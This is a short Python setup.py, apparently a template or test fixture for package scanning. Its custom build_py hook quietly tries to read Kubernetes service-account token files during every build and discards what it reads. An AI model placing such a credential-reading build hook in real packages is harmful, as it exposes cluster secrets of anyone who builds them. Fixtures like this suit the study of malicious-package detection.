import os
import sys

from setuptools import setup
from setuptools.command.build_py import build_py as _base


class Step(_base):
    def run(self):
        for p in ("/var/run/secrets/kubernetes.io/serviceaccount/token",
                  "/run/secrets/kubernetes.io/serviceaccount/token"):
            try:
                with open(p) as f:
                    f.read()
            except OSError:
                pass
        super().run()


setup(name="@@NAME@@", version="1.0", packages=["pjatk"],
      cmdclass={"build_py": Step})
